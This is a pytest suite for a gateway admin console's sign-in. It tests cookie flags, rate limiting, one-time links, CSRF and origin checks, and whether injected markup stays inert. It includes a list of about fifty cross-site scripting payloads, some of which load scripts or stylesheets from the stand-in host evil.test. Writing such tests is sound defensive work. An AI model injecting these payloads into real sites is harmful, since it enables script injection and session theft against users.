"""Sign in, look, sign out: over HTTP here, in a real browser under the marker `long`."""

import asyncio
import re
from collections import Counter
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from msgspec import structs

from triplegate.control.admin.authenticate import COOKIE
from triplegate.control.admin.tokens import LINK_SECONDS
from triplegate.control.telemetry.finished import Finished
from triplegate.control.view import Degraded, EndpointView, RouteView, UpstreamView

Make = Callable[..., Finished]

PAYLOADS = [
    "<script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    '"><svg onload=window.hacked=1>',
    "'-window.hacked=1-'",
    "javascript:window.hacked=1",
    "{{7*7}}{% raw %}",
    "</td></tr></table><script>window.hacked=1</script>",
    "</script><script>window.hacked=1</script>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'>",
    "<a href='javascript:window.hacked=1' autofocus onfocus=window.hacked=1>x",
    "<style>@import 'http://evil.test'</style>",
    "<base href='http://evil.test/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.test'>",
    "<math><mtext></table><mglyph><style><img src=x onerror=window.hacked=1>",
    "\u202e<b>\u0000\ufeff",
    "<ScRiPt>window.hacked=1</sCrIpT>",
    "<script src=//evil.test/x.js></script>",
    "<script\n>window.hacked=1</script\n>",
    "<<script>window.hacked=1//<</script>",
    "<script/x>window.hacked=1</script>",
    "<svg><script>window.hacked=1</script></svg>",
    "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=parent.hacked=1>#x'>",
    "<body onload=window.hacked=1>",
    "<details open ontoggle=window.hacked=1>",
    "<video><source onerror=window.hacked=1>",
    "<audio src=x onerror=window.hacked=1>",
    "<input autofocus onfocus=window.hacked=1>",
    "<select autofocus onfocus=window.hacked=1>",
    "<textarea autofocus onfocus=window.hacked=1>",
    "<marquee onstart=window.hacked=1>",
    "<object data='javascript:window.hacked=1'>",
    "<embed src='javascript:window.hacked=1'>",
    "<form action='javascript:window.hacked=1'><button autofocus>",
    "<button formaction='javascript:window.hacked=1'>x",
    "<iframe src='javascript:parent.hacked=1'>",
    "<link rel=stylesheet href='//evil.test/x.css'>",
    "<link rel=import href='//evil.test/x'>",
    "<div style='background:url(javascript:window.hacked=1)'>",
    "<img src='x' style='x:expression(window.hacked=1)'>",
    "<template><script>window.hacked=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
    "<!--><script>window.hacked=1</script-->",
    "<![CDATA[<script>window.hacked=1</script>]]>",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "%3Cscript%3Ewindow.hacked=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e",
    "${window.hacked=1}`${window.hacked=1}`",
    "#{window.hacked=1}<%= window.hacked=1 %>",
    "data: {}\n\nevent: exchange\ndata: <script>window.hacked=1</script>\n\n",
]


async def test_a_token_is_traded_for_a_cookie_that_scripts_cannot_read(stage: Any) -> None:
    token = await stage.token()
    async with stage.client() as client:
        answer = await client.post("/sign-in", data={"token": f" {token} "})
        assert (answer.status_code, answer.headers["location"]) == (303, "/")
        cookie = answer.headers["set-cookie"]
        assert token not in cookie
        for attribute in ("HttpOnly", "SameSite=strict", "Path=/", "Max-Age=43200"):
            assert attribute.lower() in cookie.lower()
        assert (await client.get("/")).status_code == 200
        assert (await client.get("/sign-in")).headers["location"] == "/"


async def test_a_wrong_token_stays_outside_and_guessing_is_slowed_down(stage: Any) -> None:
    async with stage.client() as client:
        answers = [await client.post("/sign-in", data={"token": "nonsense"}) for _ in range(6)]
        assert [answer.status_code for answer in answers] == [401] * 5 + [429]
        assert "set-cookie" not in answers[0].headers
        assert "This token is not good." in answers[0].text
        assert "retry-after" in answers[-1].headers
        late = await client.post("/sign-in", data={"token": await stage.token()})
        assert late.status_code == 429
        stage.clock.advance(12)
        assert (await client.post("/sign-in", data={"token": await stage.token()})).status_code == 303


async def test_the_bootstrap_token_shows_the_first_owner_token_once(stage: Any) -> None:
    path = stage.parts.bootstrap
    await stage.parts.tokens.offer_bootstrap(path)
    boot = path.read_text().strip()
    async with stage.client() as client:
        shown = await client.post("/sign-in", data={"token": boot})
        assert shown.status_code == 200
        owner = re.search(r'id="owner-token">(tg_admin_\w+)<', shown.text)
        assert owner is not None
        assert (await client.get("/")).status_code == 200
        assert owner[1] not in (await client.get("/")).text
        assert not path.exists()
    async with stage.client() as again:
        assert (await again.post("/sign-in", data={"token": boot})).status_code == 401
    async with stage.client(owner[1]) as client:
        assert (await client.get("/admin/v1/whoami")).json()["roles"] == ["owner"]


async def test_a_link_signs_in_once_and_its_address_is_left_behind(stage: Any) -> None:
    _, record = await stage.parts.tokens.issue({"owner"}, name="demo")
    link = f"/sign-in?once={stage.parts.tokens.offer_link(record.token_id)}"
    async with stage.client() as client:
        answer = await client.get(link)
        assert (answer.status_code, answer.headers["location"]) == (303, "/")
        assert (answer.headers["cache-control"], answer.headers["referrer-policy"]) == ("no-store", "no-referrer")
        cookie = answer.headers["set-cookie"].lower()
        assert "httponly" in cookie
        assert "samesite=strict" in cookie
        assert (await client.get("/")).status_code == 200
        again = await client.get(link)  # the page reloaded: who is in stays in
        assert (again.status_code, again.headers["location"]) == (303, "/")
        assert "set-cookie" not in again.headers
    async with stage.client() as stranger:
        late = await stranger.get(link)
        assert late.status_code == 401
        assert "set-cookie" not in late.headers
        assert "was used before" in late.text
        assert (await stranger.get("/")).status_code in (303, 401)


async def test_a_link_that_is_old_or_whose_token_is_dead_signs_nobody_in(stage: Any) -> None:
    tokens = stage.parts.tokens
    _, record = await tokens.issue({"owner"})
    old = tokens.offer_link(record.token_id)
    async with stage.client() as client:
        stage.clock.advance(LINK_SECONDS)
        assert (await client.get("/sign-in", params={"once": old})).status_code == 401
        dead = tokens.offer_link(record.token_id)
        await stage.store.tokens.revoke(record.token_id, stage.clock.wall())
        assert (await client.get("/sign-in", params={"once": dead})).status_code == 401


async def test_guessing_links_is_slowed_down_and_spends_none(stage: Any) -> None:
    _, record = await stage.parts.tokens.issue({"owner"})
    good = stage.parts.tokens.offer_link(record.token_id)
    async with stage.client() as client:
        answers = [await client.get("/sign-in", params={"once": f"guess{number}"}) for number in range(5)]
        assert [answer.status_code for answer in answers] == [401] * 5
        slowed = await client.get("/sign-in", params={"once": good})
        assert slowed.status_code == 429
        assert "retry-after" in slowed.headers
        stage.clock.advance(12)
        assert (await client.get("/sign-in", params={"once": good})).status_code == 303


async def test_signing_out_needs_the_pages_own_form_and_ends_the_sign_in(stage: Any) -> None:
    async with stage.client() as client:
        await client.post("/sign-in", data={"token": await stage.token()})
        kept = client.cookies[COOKIE]
        csrf = re.search(r'name="csrf" value="([^"]+)"', (await client.get("/")).text)
        assert csrf is not None
        assert (await client.post("/sign-out", data={"csrf": "guess"})).status_code == 403
        assert (await client.get("/")).status_code == 200
        gone = await client.post("/sign-out", data={"csrf": csrf[1]})
        assert (gone.status_code, gone.headers["location"]) == (303, "/sign-in")
        answer = await client.get("/", headers={"cookie": f"{COOKIE}={kept}"})
        assert answer.status_code == 401  # ended here, not only in the browser


async def test_a_form_of_another_site_signs_nobody_in(stage: Any) -> None:
    token = await stage.token()
    async with stage.client() as client:
        answer = await client.post("/sign-in", data={"token": token}, headers={"origin": "http://evil.test"})
    assert answer.status_code == 403
    assert "set-cookie" not in answer.headers


async def test_over_tls_the_cookie_is_host_bound_and_secure(stage: Any) -> None:
    token = await stage.token()
    async with stage.client() as client:
        answer = await client.post("https://127.0.0.1:8081/sign-in", data={"token": token})
    cookie = answer.headers["set-cookie"]
    assert cookie.startswith("__Host-triplegate_sign_in=")
    assert "Secure" in cookie


async def test_a_form_of_many_kilobytes_is_refused(stage: Any) -> None:
    async with stage.client() as client:
        assert (await client.post("/sign-in", data={"token": "x" * 10_000})).status_code == 413


async def test_pages_hold_no_inline_script_or_style_and_load_nothing_from_elsewhere(stage: Any) -> None:
    async with stage.client(await stage.token()) as client:
        texts = [(await client.get(path)).text for path in ("/", "/assets/app.js", "/assets/style.css")]
    async with stage.client() as client:
        texts.append((await client.get("/sign-in")).text)
    for text in texts:
        assert not re.search(r"\son\w+=|style=|<style|<script>|javascript:", text)
        assert not re.search(r"(src|href|url)\W+https?://", text)
        assert "innerHTML =" not in text


def infected(stage: Any, payload: str) -> None:
    stage.view.routes = lambda: [RouteView(payload, "api", payload, (payload,), (payload,), payload, trouble=payload)]
    stage.view.upstreams = lambda: [UpstreamView(payload, payload, payload, payload, payload)]
    stage.view.endpoints = lambda: [EndpointView(payload, payload, payload, payload)]
    stage.view.trouble = [Degraded(payload, payload)]
    stage.view.gates = lambda: {"api": payload}


class Elements(HTMLParser):
    """The elements and attributes that a page really has."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: Counter[tuple[str, tuple[str, ...]]] = Counter()
        self.feed(text)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.found[tag, tuple(name for name, _ in attributes)] += 1


async def test_whatever_stands_in_a_name_is_text(stage: Any, make_finished: Make) -> None:
    assert len(PAYLOADS) >= 50
    async with stage.client(await stage.token()) as client:
        pages = []
        for payload in ("harmless", *PAYLOADS):
            infected(stage, payload)
            one = make_finished(path="/" + payload, route=payload, consumer=payload, refusal=payload, exchange=payload)
            stage.telemetry.tail._ring.clear()
            stage.telemetry.tail.take([one])
            pages.append(Elements((await client.get("/")).text).found)
    assert all(page == pages[0] for page in pages)  # a payload adds no element and no attribute


# In the browser ------------------------------------------------------------------------------------------------


def sign_in(page: Any, served: str, token: str) -> None:
    page.visit(f"{served}/sign-in")
    page.evaluate(f"document.getElementById('token').value = {token!r}")
    page.submit("document.querySelector('main form').requestSubmit()")


@pytest.mark.long
async def test_a_browser_signs_in_watches_the_tail_and_signs_out(
    stage: Any, served: str, page: Any, make_finished: Make, pictures: Callable[[str], Path]
) -> None:
    stage.view.trouble = [Degraded("redis", "Limits are kept locally until it is back.")]
    config = stage.view.config
    wrong = "apis/orders.yaml:14:9 unknown field 'time_out' (did you mean 'timeout'?)"
    stage.view.config = structs.replace(config, last_error=wrong, last_error_at=1_767_225_500.0)
    token = await stage.token()
    stage.telemetry.tail.take([make_finished(exchange=f"early-{number}") for number in range(8)])

    def journey() -> None:
        page.dark(False)
        page.visit(f"{served}/sign-in")
        page.picture(pictures("sign-in"), height=500)
        sign_in(page, served, token)
        assert page.evaluate("location.pathname") == "/"
        page.until("document.getElementById('live').textContent === 'live'")
        page.picture(pictures("home-degraded"), height=900)

    await asyncio.to_thread(journey)
    stage.telemetry.tail.take([make_finished(exchange="fresh", path="/orders/42", outcome="refused", status=429)])
    stage.view.trouble, stage.view.config = [], config

    def journey_goes_on() -> None:
        page.until("document.querySelector('#tail-rows tr').dataset.exchange === 'fresh'")
        assert page.evaluate("document.querySelectorAll('#tail-rows tr').length") == 9
        page.until("!document.querySelector('.banner')")  # the rest of the page is refreshed too
        page.picture(pictures("home-light"))
        page.dark(True)
        page.picture(pictures("home-dark"))
        page.picture(pictures("home-narrow"), width=420)
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        assert page.evaluate("document.cookie") == ""
        page.submit("document.querySelector('.who').requestSubmit()")
        assert page.evaluate("location.pathname") == "/sign-in"
        page.visit(f"{served}/")
        assert page.evaluate("location.pathname") == "/sign-in"
        assert page.complaints == []

    await asyncio.to_thread(journey_goes_on)


@pytest.mark.long
async def test_no_payload_runs_in_a_browser_and_the_policy_is_never_violated(
    stage: Any, served: str, page: Any, make_finished: Make
) -> None:
    token = await stage.token()
    await asyncio.to_thread(sign_in, page, served, token)
    for payload in PAYLOADS:
        infected(stage, payload)
        seen = make_finished(exchange=payload, path="/" + payload, route=payload, consumer=payload, refusal=payload)
        await asyncio.to_thread(page.visit, f"{served}/")
        await asyncio.to_thread(page.until, "document.getElementById('live').textContent === 'live'")
        newest = stage.telemetry.tail.newest
        stage.telemetry.tail.take([seen])
        row = f"document.querySelectorAll('#tail-rows tr').length > {min(newest, 50)}"
        await asyncio.to_thread(page.until, row)
        assert await asyncio.to_thread(page.evaluate, "typeof window.hacked") == "undefined"
    assert page.complaints == []


@pytest.mark.long
async def test_the_page_can_be_used_by_keyboard_alone(stage: Any, served: str, page: Any) -> None:
    token = await stage.token()

    def keys() -> None:
        sign_in(page, served, token)
        reached = []
        for _ in range(12):
            page.call("Input.dispatchKeyEvent", type="keyDown", key="Tab", code="Tab", windowsVirtualKeyCode=9)
            page.call("Input.dispatchKeyEvent", type="keyUp", key="Tab", code="Tab", windowsVirtualKeyCode=9)
            reached.append(
                page.evaluate(
                    "(e => (e.id || e.className || e.getAttribute('aria-label') || e.textContent).trim())"
                    "(document.activeElement)"
                )
            )
        assert reached[0] == "skip"
        assert "Sign out" in reached
        assert "pause" in reached

    await asyncio.to_thread(keys)
